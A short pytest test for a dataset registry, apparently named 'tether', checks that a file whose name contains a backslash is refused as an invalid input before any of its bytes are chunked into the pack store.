def test_a_name_windows_reads_as_a_folder_is_refused_before_its_bytes_are_stored(
        tmp_path: Path) -> None:
    """A file named with a backslash was chunked into the store whole, then refused as
    "leaving the version's folder" (a review)."""
    folder = tmp_path / "d"
    folder.mkdir()
    (folder / "a\\b.csv").write_bytes(os.urandom(200_000))
    reg = tether.init(tmp_path / "reg", actor="t@example.com")
    with pytest.raises(InvalidInput, match="Windows reads as a folder"):
        reg.add_dataset(folder, "d")
    assert not list((tmp_path / "reg").rglob("packs/*.pack"))
